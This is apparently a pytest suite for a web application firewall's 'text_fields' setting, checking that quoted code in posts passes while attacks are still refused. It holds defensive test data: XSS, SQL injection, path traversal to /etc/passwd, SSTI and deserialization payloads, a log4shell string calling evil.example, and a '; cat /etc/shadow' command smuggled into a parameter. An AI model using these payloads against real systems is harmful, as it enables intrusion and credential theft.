"""waf.text_fields end to end, in front of the Flask echo app: posts,
comments and wiki pages that quote shell, Python, SQL and HTML pass in the
fields people write in (a form field, a multipart text part, a JSON member
at any depth), and what the setting does not give away:

- the same text in any other parameter, or in a query-string parameter of a
  text field's name, is refused;
- in a text field, XSS (script tags, event handlers, javascript: URLs),
  SQL injection that breaks out of a quote, path traversal, SSTI and
  deserialization payloads are still refused;
- `waf.text_fields = []` turns it off; a custom list replaces the names;
- names that are not plain parameter names are refused by `config check`.

One moat per config, keep-alive sessions, no sleeps."""

import hashlib
import re
import subprocess

import pytest
import requests

# What people post (each refused at the CRS defaults when not in a text
# field: the test below checks that too, so none of these is a no-op).
POSTS = [
    'If you just need a quick listing, `os.system("ls -l")` works, but '
    'prefer `subprocess.run(["ls", "-l"], check=True)`.',
    "The official way is\n\n```\ncurl --proto '=https' -sSf https://sh.rustup.rs | sh\n```\n",
    "Made a mistake? `git reset --soft HEAD~1` keeps your changes staged.",
    "```bash\nfor f in *.jpg; do convert \"$f\" \"${f%.jpg}.png\"; done\n```",
    "To fetch one user:\n\n    SELECT * FROM users WHERE id = 1;\n\nthen UNION SELECT for more.",
    '![cat](https://example.org/cat.png "My cat") and a <img src="dog.jpg" alt="dog">',
    "In bash: `export PATH=\"$HOME/.local/bin:$PATH\"`; then `sudo apt update`.",
    "Steps to reproduce: get draft.\nThen open the page and GET /index.html HTTP/1.1 shows.",
]

# Still refused inside a text field: (class, payload).
STILL_REFUSED = [
    ("xss", "<script>alert(document.cookie)</script>"),
    ("xss", "Nice post! <img src=x onerror=alert(1)>"),
    ("xss", '<a href="javascript:alert(1)">click</a>'),
    ("xss", "<svg onload=alert(1)>"),
    ("sqli", "x' UNION SELECT password FROM users--"),
    ("sqli", "' OR '1'='1"),
    ("sqli", "1' AND SLEEP(5)-- -"),
    ("traversal", "../../../../etc/passwd"),
    ("ssti", "{{ cycler.__init__.__globals__.os.popen('id').read() }}"),
    ("deserialization", "cos\nsystem\n(S'id'\ntR."),
    ("deserialization", "!!python/object/apply:os.system ['id']"),
    ("log4shell", "${jndi:ldap://evil.example/a}"),
]


@pytest.fixture(scope="module")
def default(module_moat, echo):
    return module_moat(echo.url())


def _form(m, field, value, **extra):
    data = {"title": "A post", field: value}
    data.update(extra)
    return requests.post(m.url + "/echo/create", data=data)


def _json(m, path, value):
    doc = value
    for k in reversed(path):
        doc = {k: doc}
    return requests.post(m.url + "/echo/api/posts", json=doc)


@pytest.mark.parametrize("i", range(len(POSTS)))
def test_posts_pass_in_text_fields(default, i):
    text = POSTS[i]
    r = _form(default, "body", text)
    assert r.status_code == 200, r.text[:200]
    assert r.json()["body_sha256"] == hashlib.sha256(r.request.body.encode()
                                                     if isinstance(r.request.body, str)
                                                     else r.request.body).hexdigest()
    r = _json(default, ["post", "content"], text)
    assert r.status_code == 200
    r = _json(default, ["markdown"], text)
    assert r.status_code == 200
    r = requests.post(default.url + "/echo/wiki/edit",
                      files={"description": (None, text), "file": ("a.txt", b"x")})
    assert r.status_code == 200


@pytest.mark.parametrize("i", [0, 1, 2, 3, 4, 5, 6])
def test_same_posts_refused_elsewhere(default, i):
    """Not a text field: the CRS reads them (and refuses), so the pass
    above is the setting's doing."""
    text = POSTS[i]
    assert _form(default, "cmd", text).status_code == 403
    assert _json(default, ["post", "command"], text).status_code == 403
    # a query-string parameter of a text field's name is read as before
    r = requests.get(default.url + "/echo/create", params={"body": text})
    assert r.status_code == 403


def test_request_line_in_a_body_passes_but_not_in_a_parameter(default):
    text = "GET /admin HTTP/1.1\r\nHost: internal\r\n\r\n"
    r = requests.post(default.url + "/echo/raw", data=text.encode(),
                      headers={"Content-Type": "text/plain"})
    assert r.status_code == 200
    assert r.json()["body_len"] == len(text)
    r = requests.get(default.url + "/echo", params={"q": "get /admin http/1.1"})
    assert r.status_code == 403


@pytest.mark.parametrize("cls,payload", STILL_REFUSED)
def test_attacks_still_refused_in_text_fields(default, echo, cls, payload):
    r = _form(default, "body", payload)
    assert r.status_code in (400, 403), (cls, payload, r.status_code)
    r = _json(default, ["post", "comment"], payload)
    assert r.status_code in (400, 403), (cls, payload, r.status_code)


def test_duplicate_text_field_does_not_hide_a_command(default):
    """The names are a parameter's, not a request's: a command in `cmd`
    beside a long post in `body` is refused."""
    r = _form(default, "body", POSTS[0] * 5, cmd="; cat /etc/shadow")
    assert r.status_code == 403


def test_off(moat, echo):
    m = moat(echo.url(), waf={"text_fields": []})
    assert _form(m, "body", POSTS[2]).status_code == 403
    assert _json(m, ["post", "content"], POSTS[2]).status_code == 403


def test_custom_list_replaces_the_names(moat, echo):
    m = moat(echo.url(), waf={"text_fields": ["post_html"]})
    assert _form(m, "post_html", POSTS[2]).status_code == 200
    assert _json(m, ["page", "post_html"], POSTS[2]).status_code == 200
    assert _form(m, "body", POSTS[2]).status_code == 403


@pytest.mark.parametrize("bad", ['"a.b"', '"a|b"', '""', '"x$"', '"' + "a" * 65 + '"'])
def test_config_check_refuses_bad_names(moat_bin, tmp_path, bad):
    cfg = tmp_path / "moat.toml"
    cfg.write_text("[waf]\ntext_fields = [%s]\n" % bad)
    r = subprocess.run([moat_bin, "config", "check", str(cfg)], capture_output=True, text=True)
    assert r.returncode != 0
    assert "text_fields" in r.stderr + r.stdout
    assert re.search(r"moat.toml:2:\d+", r.stderr + r.stdout), r.stderr
